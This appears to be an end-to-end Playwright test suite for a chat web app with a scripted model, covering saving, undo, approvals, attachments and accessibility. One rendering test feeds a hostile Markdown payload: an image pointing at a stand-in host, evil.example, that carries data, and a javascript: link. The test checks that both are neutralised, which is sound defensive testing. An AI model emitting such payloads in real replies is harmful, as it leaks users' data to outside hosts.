/** The chat as a person uses it: a scripted model, in Chromium. */

import { PIXEL } from "@etui/engine/testing/pixel";
import { slowTest } from "@etui/values/testing/draws";
import type { Browser, Locator, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { ensureWebApp } from "../../../packages/server/src/http/build-web-app.ts";
import { hasChromium, startChromium } from "../../harness/chromium.ts";
import type { Reply } from "../../harness/scripted-provider/script.ts";
import {
  type ScriptedProvider,
  startScriptedProvider,
} from "../../harness/scripted-provider/scripted-provider.ts";
import type { TestServer } from "../../harness/test-server.ts";
import { severeViolations } from "../cards/axe.ts";
import { eventually } from "../eventually.ts";
import { beginAt, leadTo } from "../lead-to.ts";
import { looks } from "../looks.ts";
import { newPage } from "../open-page.ts";
import { startPageServer } from "../page-server.ts";

const GOALS = { books: { target: 50, done: 17 } };

type PageOptions = NonNullable<Parameters<typeof newPage>[1]>;

async function openChat(
  opening: { browser: Browser; server: TestServer; faults: string[] },
  address = "/chat",
  options: PageOptions = {},
) {
  const page = await newPage(opening, options);
  page.setDefaultTimeout(15_000);
  await page.goto(opening.server.url + address);
  const field = page.getByRole("textbox", { name: /^(Say something|说点什么)$/ });
  await field.waitFor();
  return { page, field, ...parts(page) };
}

function parts(page: Page) {
  const log = page.getByRole("log");
  return {
    log,
    replies: log.getByRole("article", { name: /^(Assistant|助手)$/ }),
    words: log.getByRole("article", { name: /^(You|你)$/ }),
    status: page.getByRole("status").filter({ hasText: /answer|回答/ }),
  };
}

describe.skipIf(!hasChromium)("the chat in Chromium", () => {
  let provider: ScriptedProvider;
  let server: TestServer;
  let browser: Browser;
  const faults: string[] = [];

  beforeAll(async () => {
    await ensureWebApp(() => {});
    provider = await startScriptedProvider();
    const { env } = provider;
    server = await startPageServer({ env, dispatch: true });
    browser = await startChromium();
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await Promise.all([server?.close(), provider?.close()]);
  });

  const script = (...replies: Partial<Reply>[]) => provider.play("play", { replies });

  const open = (address?: string, options?: PageOptions) =>
    openChat({ browser, server, faults }, address, options);
  let led: Awaited<ReturnType<typeof open>> | undefined;
  afterAll(() => led?.page.close());
  /** For a test that needs no new page: that of the test before begins another conversation. */
  async function openHere() {
    led ??= await open();
    await beginAt(led.page, "/chat");
    await led.page.getByRole("heading", { name: "What is on your mind?" }).waitFor();
    return led;
  }

  async function say(field: Locator, text: string) {
    await field.fill(text);
    await field.press("Enter");
  }

  test("a goal is set, shown as a tree, undone, and all of it is there after a reload", async () => {
    script(
      {
        reasoning: "Save first.",
        calls: [{ tool: "save", arguments: { path: "goals/2026", content: GOALS } }],
      },
      { calls: [{ tool: "show", arguments: { kind: "tree", path: "goals/2026", title: "Goals" } }] },
      { text: "Your goals are **saved**." },
      { text: "Goals of 2026" },
    );
    const { page, field, replies, words } = await openHere();
    await say(field, "Set my goals: 50 books");
    const reply = replies.first();
    await reply.getByText("Your goals are saved.").waitFor();
    await reply.getByRole("heading", { name: "Goals" }).waitFor();
    expect(await reply.getByRole("treeitem").count()).toBeGreaterThan(1);
    await reply.getByRole("button", { name: /save · goals\/2026/ }).click();
    await reply.getByText('"target": 50').first().waitFor();
    expect(page.url()).toMatch(/\/chat\/\w+$/);
    await page.getByRole("navigation").getByRole("link", { name: /goals/i }).waitFor();
    await eventually(() => page.title()).toMatch(/goals.* · Etui$/i);

    await page.reload();
    await words.getByText("Set my goals: 50 books").waitFor();
    await replies.getByText("Your goals are saved.").waitFor();
    await replies.getByRole("treeitem").first().waitFor();
    await replies.getByRole("button", { name: "Undo" }).click();
    await replies.getByText(/Took back 1 change/).waitFor();
    expect((await server.call("read_user_data", { path: "goals/2026" })).json.status).toBe("not_found");
    await page.reload();
    await replies.getByText("taken back").waitFor();
    expect(await replies.getByRole("button", { name: "Undo" }).count()).toBe(0);
  });

  test("a question waits, and the reply goes on with the answer", async () => {
    script(
      {
        calls: [
          {
            tool: "ask",
            arguments: {
              question: "How did today go?",
              fields: [{ name: "pages", label: "Pages read", type: "number" }],
            },
          },
        ],
      },
      { text: "42 pages, well done." },
    );
    const { field, replies, status } = await openHere();
    await say(field, "Ask me");
    await replies.getByText("waits for you").waitFor();
    await status.filter({ hasText: "waits for your answer" }).waitFor({ state: "attached" });
    await replies.getByLabel("Pages read").fill("42");
    await replies.getByRole("button", { name: "Submit" }).click();
    await replies.getByText("42 pages, well done.").waitFor();
  });

  slowTest(
    "a question that was passed over waits no longer, and the conversation goes on with its late answer",
    async () => {
      const asked = {
        question: "How did today go?",
        fields: [{ name: "pages", label: "Pages", type: "number" }],
      };
      script(
        { calls: [{ tool: "ask", arguments: asked }] },
        { text: "Sunny." },
        { text: "42 pages, after all." },
      );
      const { field, replies } = await openHere();
      await say(field, "Ask me");
      await replies.getByText("waits for you").waitFor();
      await say(field, "How is the weather?");
      await replies.getByText("Sunny.").waitFor();
      await replies.getByText("no longer waits").waitFor();
      expect(await replies.getByText("waits for you").count()).toBe(0);
      await replies.getByLabel("Pages").fill("42");
      await replies.getByRole("button", { name: "Submit" }).click();
      await replies.getByText("42 pages, after all.").waitFor();
    },
  );

  slowTest("a form that waits for nobody goes on with the conversation once it is filled in", async () => {
    const fields = [{ name: "pages", type: "number", label: "Pages" }];
    const options = { interactive: true, save_to: "checkins/shown", fields };
    const form = { kind: "form", data: {}, title: "Check-in", options };
    script({ calls: [{ tool: "show", arguments: form }] }, { text: "Fill it in." }, { text: "Forty-two!" });
    const { field, replies, words } = await openHere();
    await say(field, "Check in");
    await replies.getByText("Fill it in.").waitFor();
    await replies.getByLabel("Pages").fill("42");
    await replies.getByRole("button", { name: /Submit|Save|Send/ }).click();
    await replies.getByText("Forty-two!").waitFor();
    await words.getByText("You answered “Check-in”").waitFor();
    const { data } = (await server.call("read_user_data", { path: "checkins/shown" })).json;
    expect(data).toEqual({ pages: 42 });
  });

  test("a call that reaches outside shows what it would do, and does what the person made of it", async () => {
    const action = {
      type: "notify",
      params: { body: "Done", channels: ["webhook"], url: "https://example.com/in" },
    };
    const trigger = { trigger_type: "reminder", title: "Report", schedule: "08:00", schedule_type: "daily" };
    script(
      { calls: [{ tool: "create_trigger", arguments: { ...trigger, action } }] },
      { text: "It is set up." },
    );
    const { page, field, replies } = await open();
    await page.getByRole("button", { name: "Companion" }).click();
    await page.getByRole("menuitem", { name: "Everything" }).click();
    await say(field, "Report to example.com each morning");
    const question = replies.getByRole("article");
    await question
      .getByText('Let the trigger "Report" send to "https://example.com/in" by itself?')
      .waitFor();
    await page.reload();
    await question.getByRole("button", { name: "Change…" }).click();
    const editor = question.getByLabel("Arguments of the call");
    await editor.fill((await editor.inputValue()).replace('"Report"', '"Weekly report"'));
    await question.getByRole("button", { name: "Approve this" }).click();
    await replies.getByText("It is set up.").waitFor();
    const { triggers } = (await server.call("list_triggers", {})).json;
    expect(triggers).toMatchObject([{ title: "Weekly report" }]);
    const told = provider.asked.findLast(({ tools }) => tools.length > 0)!;
    expect(JSON.stringify(told.body)).toContain("The person changed the arguments");
    await page.close();
  });

  test("a reply is stopped, made anew, and the words before it are said otherwise", async () => {
    script({ text: "One two three four five six seven eight nine ten.", pace_ms: 120 });
    const { page, field, replies, words, status } = await openHere();
    // The field has the focus, because people come here to write.
    await field.and(page.locator(":focus")).waitFor();
    await say(field, "Count");
    await replies.getByText(/One/).waitFor();
    await page.getByRole("button", { name: "Stop" }).click();
    await replies.getByText("You stopped this answer.").waitFor();
    await status.filter({ hasText: "The answer was stopped" }).waitFor({ state: "attached" });

    script({ text: "Eleven." });
    await replies.first().hover();
    await replies.getByRole("button", { name: "Answer anew" }).click();
    await replies.getByText("Eleven.").waitFor();
    expect(await replies.count()).toBe(1);

    script({ text: "Twelve." });
    await words.first().hover();
    await words.getByRole("button", { name: "Change and say again" }).click();
    await page.getByLabel("Your words").fill("Count on");
    await page.getByRole("button", { name: "Say again" }).click();
    await replies.getByText("Twelve.").waitFor();
    expect(await words.allInnerTexts()).toEqual(["Count on"]);

    script({ text: "Twelve." }, { text: "Thirteen." });
    await field.press("ArrowUp");
    expect(await page.getByLabel("Your words").inputValue()).toBe("Count on");
    await page.keyboard.press("Escape");
    await field.and(page.locator(":focus")).waitFor();
    expect(await words.allInnerTexts()).toEqual(["Count on"]);
    await say(field, "More");
    await replies.getByText("Thirteen.").waitFor();
    expect(await words.allInnerTexts()).toEqual(["Count on", "More"]);
  });

  test("what the provider fails with is said with what to do, and tried again", async () => {
    script({ fault: { status: 402, message: "Insufficient balance", times: 1 }, text: "Here." });
    const { field, replies } = await openHere();
    await say(field, "Hello");
    await replies
      .getByRole("alert")
      .getByText(/no credit left: Insufficient balance/)
      .waitFor();
    await replies.getByRole("button", { name: "Try again" }).click();
    await replies.getByText("Here.").waitFor();
  });

  slowTest("a reply is watched from two tabs and outlives a reload in its midst", async () => {
    script({ text: "Word by word it is written to its end.", pace_ms: 60 });
    const one = await open();
    await say(one.field, "Write");
    await one.replies.getByText(/Word/).waitFor();
    const other = await open(new URL(one.page.url()).pathname);
    await one.page.reload();
    for (const { replies } of [one, other])
      await replies.getByText("Word by word it is written to its end.", { exact: true }).waitFor();
    await one.page.close();
    await other.page.close();
  });

  test("Markdown is drawn; what could be loaded from elsewhere is a link", async () => {
    script({
      text: "| Week | Pages |\n| --- | ---: |\n| 1 | 120 |\n\n```ts\nconst a = 1;\n```\n\nso $x^2$, at $5\n\n![secret](https://evil.example/?q=data) <b>bold</b> [x](javascript:alert(1))",
    });
    const { field, replies } = await openHere();
    await say(field, "Markdown");
    await replies.getByRole("cell", { name: "120" }).waitFor();
    await replies.locator(".hljs-keyword").getByText("const").waitFor();
    await replies.locator("math").waitFor();
    expect(await replies.innerText()).toContain("at $5");
    expect(await replies.locator("img").count()).toBe(0);
    expect(await replies.getByRole("link", { name: "secret" }).getAttribute("rel")).toContain("noopener");
    expect(await replies.innerText()).toContain("secret (evil.example)");
    expect(await replies.innerText()).toContain("<b>bold</b>");
    expect(await replies.locator('a[href^="javascript"]').count()).toBe(0);
  });

  test("a skill that fits is offered before the answer, and loaded on the person's word", async () => {
    // The loading looks as if the model had requested it, so what it says next is its second message.
    script({ text: "Not loaded." }, { text: "Loaded and ready." });
    const { page, field, replies } = await open("/chat", { locale: "zh-CN" });
    await page.getByRole("button", { name: /技能预检/ }).click();
    await say(field, "帮我设定年度目标");
    const check = page.getByRole("region", { name: /可能用得上/ });
    await check.getByText("goal_tracking").waitFor();
    await check.getByRole("button", { name: "加载并继续" }).click();
    await replies.getByText("Loaded and ready.").waitFor();
    await replies.getByRole("button", { name: /activate_skills · goal_tracking/ }).waitFor();
    await page.getByText("技能·goal_tracking", { exact: false }).first().waitFor();
    const asked = provider.asked.find(
      ({ lastWords, tools }) => tools.length > 0 && lastWords.includes("帮我设定年度目标"),
    )!;
    expect(JSON.stringify(asked.body)).toContain("activate_skills");
    await page.close();
  });

  slowTest("declined, the answer goes on without; a mention needs no question", async () => {
    script({ text: "Without." }, { text: "With." });
    const { page, field, replies } = await open("/chat", { locale: "zh-CN" });
    await page.getByRole("button", { name: /技能预检/ }).click();
    await say(field, "帮我设定年度目标");
    await page.getByRole("button", { name: "不用，直接继续" }).waitFor();
    // Nothing has been said yet, so the words are where they were typed.
    await page.reload();
    await field.waitFor();
    expect(await field.inputValue()).toBe("帮我设定年度目标");
    await field.press("Enter");
    await page.getByRole("button", { name: "不用，直接继续" }).click();
    await replies.getByText("Without.").waitFor();
    expect(await field.inputValue()).toBe("");
    expect(await replies.getByText("activate_skills").count()).toBe(0);
    await page.getByRole("button", { name: /技能预检/ }).click();
    await field.pressSequentially("用 @goal");
    await page.getByRole("option", { name: /goal_tracking/ }).waitFor();
    await field.press("Enter");
    expect(await field.inputValue()).toBe("用 @goal_tracking ");
    await field.press("Enter");
    await replies.getByRole("button", { name: /activate_skills · goal_tracking/ }).waitFor();
    await page.close();
  });

  test("conversations are found by what was said, named, put away and deleted", async () => {
    script({ text: "Noted." });
    const { page, field, replies } = await open();
    await say(field, "The heron stood in the river");
    await replies.getByText("Noted.").waitFor();
    await page.getByRole("button", { name: "More about this conversation" }).click();
    await page.getByRole("menuitem", { name: "Rename" }).click();
    // Its field has the focus, and its old text is selected.
    await page.getByRole("dialog").getByLabel("Title").waitFor();
    await page.keyboard.type("Herons");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { level: 1, name: "Herons" }).waitFor();

    await page.getByRole("button", { name: "All conversations" }).click();
    const list = page.getByRole("dialog", { name: "Conversations" });
    await list.getByRole("searchbox").fill("heron stood");
    await list.getByRole("link", { name: /Herons/ }).waitFor();
    await list.getByRole("button", { name: "Close" }).click();
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Find anything" }).fill("heron stood");
    await page.getByRole("option", { name: "Herons" }).waitFor();
    await page.keyboard.press("Escape");

    const { page: other } = await open(new URL(page.url()).pathname);
    await page.getByRole("button", { name: "More about this conversation" }).click();
    await page.getByRole("menuitem", { name: "Delete" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
    await page.getByRole("heading", { level: 1, name: "New conversation" }).waitFor();
    // Another tab does not take it for a new conversation.
    await other.getByRole("heading", { name: "This conversation is not here" }).waitFor();
    await Promise.all([page.close(), other.close()]);
  });

  slowTest("one that begins asks for nothing that is not there, and is left and found again", async () => {
    script({ text: "Hello." });
    const { page, field, log, replies } = await open();
    const missing: string[] = [];
    page.on("response", (response) => response.status() === 404 && missing.push(response.url()));
    const asked: string[] = [];
    page.on("request", (request) => asked.push(`${request.method()} ${new URL(request.url()).pathname}`));
    // The stream of changes opens late, and has everything fetched again while the message is still on its way.
    const opens = Promise.withResolvers<void>();
    await page.route(/\/api\/events/, async (route) => {
      await opens.promise;
      await route.continue();
    });
    const arrives = Promise.withResolvers<void>();
    await page.route(/\/messages$/, async (route) => {
      await arrives.promise;
      await route.continue();
    });
    await page.reload();
    await say(field, "Hi");
    await log.getByText("Hi", { exact: true }).waitFor();
    const path = `/api/conversations/${new URL(page.url()).pathname.split("/").at(-1)}`;
    const fetchedAgain = page.waitForResponse((response) => response.url().includes("/api/conversations?"));
    opens.resolve();
    await fetchedAgain;
    expect(asked).toContain(`POST ${path}/messages`);
    expect(asked).not.toContain(`GET ${path}`);
    arrives.resolve();
    await replies.getByText("Hello.").waitFor();
    await page.getByRole("button", { name: "New conversation" }).first().click();
    await page.getByRole("heading", { name: "What is on your mind?" }).waitFor();
    await page.goBack();
    await replies.getByText("Hello.").waitFor();
    expect(missing).toEqual([]);
    await page.close();
  });

  slowTest(
    "what the assistant wrote for a trigger, and a card it showed, lead to their conversation",
    async () => {
      script(
        { calls: [{ tool: "show", arguments: { kind: "counter", data: { Pages: 12 }, title: "Read" } }] },
        { text: "Twelve pages today." },
      );
      const { json } = await server.call("create_trigger", {
        trigger_type: "schedule",
        title: "Evening",
        schedule: "21:00",
        schedule_type: "daily",
        action: { type: "generate", params: { prompt: "Sum up my reading" } },
      });
      await server.call("control_trigger", { trigger_id: json.trigger_id, action: "run" });
      const page = await newPage({ browser, server, faults });
      page.setDefaultTimeout(20_000);
      await page.goto(`${server.url}/inbox`);
      const message = page.getByRole("article", { name: /Evening/ });
      await message.getByText("Twelve pages today.").waitFor();
      await message.getByRole("link", { name: "Open the conversation" }).click();
      await parts(page).words.getByText("Sum up my reading").waitFor();
      const card = parts(page).replies.first().getByRole("article", { name: "Read" });
      await card.waitFor();

      const { cards } = (await server.send("GET", "/api/cards?limit=1")).json;
      await leadTo(page, `/cards/${cards[0].card_id}`);
      await page.getByRole("link", { name: "by the assistant" }).click();
      await parts(page).words.getByText("Sum up my reading").waitFor();
      await page.close();
    },
  );

  slowTest("what is taken back elsewhere is told in an open conversation", async () => {
    script(
      { calls: [{ tool: "save", arguments: { path: "notes/heron", content: { seen: true } } }] },
      { text: "Kept." },
    );
    const { page, field, replies } = await openHere();
    await say(field, "Note the heron");
    await replies.getByText("Saved notes/heron").waitFor();
    await replies.getByText("Kept.").waitFor();
    const { json } = await server.send(
      "GET",
      new URL(page.url()).pathname.replace("/chat/", "/api/conversations/"),
    );
    const saved = json.messages[1].parts.find(({ tool }: { tool?: string }) => tool === "save");
    await server.call("undo", { call_id: saved.result.receipt.call_id });
    await replies.getByText("taken back").waitFor();
    expect(await replies.getByRole("button", { name: "Undo" }).count()).toBe(0);
  });

  test("words that were not said are there after a reload, and are lost to no failure", async () => {
    script({ text: "Yes." });
    const { page, field, replies } = await openHere();
    await field.fill("half a thought");
    await page.reload();
    await field.waitFor();
    expect(await field.inputValue()).toBe("half a thought");
    await page.route("**/messages", (route) => route.abort());
    await field.press("Enter");
    await page.getByRole("alert").getByText("This was not said:").waitFor();
    expect(await field.inputValue()).toBe("half a thought");
    await page.unroute("**/messages");
    await field.press("Enter");
    await replies.getByText("Yes.").waitFor();
    await page.getByRole("button", { name: "New conversation" }).first().click();
    await page.getByRole("heading", { name: "What is on your mind?" }).waitFor();
    expect(await field.inputValue()).toBe("");
  });

  test("pictures and texts go with the words: chosen, pasted or dropped, seen and sent to the model", async () => {
    script({ text: "A dot and a plan." }, { text: "Still a dot." });
    const { page, field, replies, words } = await openHere();
    const attached = page.getByRole("list", { name: "Files" });
    await page.locator('input[type="file"]').setInputFiles([
      { name: "dot.png", mimeType: "image/png", buffer: PIXEL },
      { name: "plan.md", mimeType: "text/markdown", buffer: Buffer.from("# Run") },
      { name: "song.mp3", mimeType: "audio/mpeg", buffer: Buffer.from("ID3\0\0") },
      { name: "empty.txt", mimeType: "text/plain", buffer: Buffer.alloc(0) },
    ]);
    await attached.getByText("Nothing is in it.").waitFor();
    await page.getByRole("button", { name: "Remove empty.txt" }).click();
    await attached.getByText("No model reads this.", { exact: false }).waitFor();
    await page.getByRole("button", { name: "Remove song.mp3" }).click();
    await attached.locator("img").waitFor();
    // This is a string, because the types of a page are not available in this file.
    await page.evaluate(`{
      const given = new DataTransfer();
      const bytes = Uint8Array.from(atob("${PIXEL.toString("base64")}"), (c) => c.charCodeAt(0));
      given.items.add(new File([bytes], "dropped.png"));
      const target = document.querySelector("textarea");
      for (const type of ["dragenter", "dragover", "drop"])
        target.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: given }));
      const pasted = new DataTransfer();
      pasted.items.add(new File(["a,b"], "table.csv", { type: "text/csv" }));
      const paste = { bubbles: true, cancelable: true, clipboardData: pasted };
      target.dispatchEvent(new ClipboardEvent("paste", paste));
    }`);
    await attached.getByText("table.csv").waitFor();
    expect(await attached.getByRole("listitem").count()).toBe(4);
    await attached.getByText("on its way…").first().waitFor({ state: "detached" });
    await say(field, "What are these?");
    await replies.getByText("A dot and a plan.").waitFor();
    await words.first().getByRole("img", { name: "dot.png" }).waitFor();
    await words.first().getByRole("link", { name: "plan.md" }).waitFor();
    expect(await attached.count()).toBe(1);
    const asked = JSON.stringify(provider.asked.findLast(({ tools }) => tools.length > 0)!.body);
    expect(asked).toContain(PIXEL.toString("base64"));
    expect(asked).toContain("# Run");
    // When the words are changed, the files still accompany them.
    await words.first().hover();
    await words.getByRole("button", { name: "Change and say again" }).click();
    await page.getByLabel("Your words").fill("And these?");
    await page.getByRole("button", { name: "Say again" }).click();
    await words.getByText("And these?").waitFor();
    await words.first().getByRole("img", { name: "dot.png" }).waitFor();
  });

  test.each(looks(1))("axe finds nothing serious: %s", async (_, options, colorScheme, locale) => {
    script(
      { reasoning: "Hm.", calls: [{ tool: "save", arguments: { path: "axe", content: { a: 1 } } }] },
      { text: "### Saved it\n\n##### At `axe`\n\n```ts\nconst a = 1; // one\n```" },
    );
    const { page, field, replies } = await open("/chat", { ...options, colorScheme, locale });
    expect(await severeViolations(page)).toEqual([]);
    await field.fill("/");
    await page.getByRole("option").first().waitFor();
    const suggestions = await page.getByRole("option").count();
    await page
      .getByRole("status")
      .filter({ hasText: new RegExp(`\\b${suggestions}|有${suggestions}个`) })
      .waitFor();
    expect(await severeViolations(page, { isCovered: true })).toEqual([]);
    await say(field, "Save");
    await replies.locator(".hljs-keyword").waitFor();
    await replies.getByRole("button", { name: /axe/ }).first().click();
    expect(await severeViolations(page)).toEqual([]);
    await page.close();
  });

  test("nothing broke in the page meanwhile", () => {
    expect(faults).toEqual([]);
  });
});

describe.skipIf(!hasChromium)("the chat without a model in Chromium", () => {
  let server: TestServer;
  let browser: Browser;
  const faults: string[] = [];

  beforeAll(async () => {
    server = await startPageServer();
    browser = await startChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  test("every tool is there by its name, and its card stays in the conversation", async () => {
    const { page, field, log } = await openChat({ browser, server, faults });
    await page.getByText("No model is connected yet.", { exact: false }).waitFor();
    await field.pressSequentially("Hello");
    await field.press("Enter");
    await page.getByRole("alert").getByText("Nothing was sent").waitFor();
    expect(await field.inputValue()).toBe("Hello");
    await field.fill("/");
    for (const tool of ["ask", "save", "show", "remind", "search"])
      await page.getByRole("option", { name: new RegExp(`^${tool} `) }).waitFor();
    expect(await page.getByRole("option").count()).toBeGreaterThan(30);
    await field.fill("");
    await field.pressSequentially("/write_user");
    await page.getByRole("option", { name: /write_user_data/ }).waitFor();
    await field.press("Enter");
    const form = page.getByRole("dialog");
    // The focus starts in the form's first field.
    await form.getByLabel("path required").and(page.locator(":focus")).waitFor();
    await form.getByRole("button", { name: "Run" }).click();
    // While a call is in progress, its button does nothing.
    await form.getByRole("status").getByText(/field/).waitFor();
    await form.getByRole("button", { name: /example/i }).click();
    await form.getByRole("button", { name: "Run" }).click();
    await log.getByText(/^Saved goals/).waitFor();
    await form.waitFor({ state: "hidden" });

    await field.pressSequentially("/show_card");
    await field.press("Enter");
    await form.getByRole("button", { name: /example/i }).click();
    await form.getByRole("button", { name: "Run" }).click();
    await log.getByRole("heading", { name: "Today" }).waitFor();
    await page.getByRole("heading", { level: 1, name: "/ write_user_data" }).waitFor();
    await page.reload();
    await log.getByRole("heading", { name: "Today" }).waitFor();
    await log.getByText(/^Saved goals/).waitFor();
    await page.close();
  });

  slowTest("what was called in one that begins is there, also when it changes again just then", async () => {
    const { page, field, log } = await openChat({ browser, server, faults });
    // The page requests its conversation, and drops that request because it has to ask again.
    const asked = Promise.withResolvers<void>();
    await page.route(/\/api\/conversations\/[^/?]+$/, () => asked.resolve(), { times: 1 });
    await field.pressSequentially("/query_user");
    await page.getByRole("option", { name: /query_user_data/ }).waitFor();
    await field.press("Enter");
    await page.getByRole("dialog").getByRole("button", { name: "Run" }).click();
    await asked.promise;
    const id = new URL(page.url()).pathname.split("/").at(-1);
    await server.send("POST", `/api/conversations/${id}/calls`, {
      body: { tool: "query_user_data", arguments: {} },
    });
    await log
      .getByRole("button", { name: /query_user_data/ })
      .nth(1)
      .waitFor();
    await page.close();
  });

  test("nothing broke in the page meanwhile", () => {
    expect(faults).toEqual([]);
  });
});
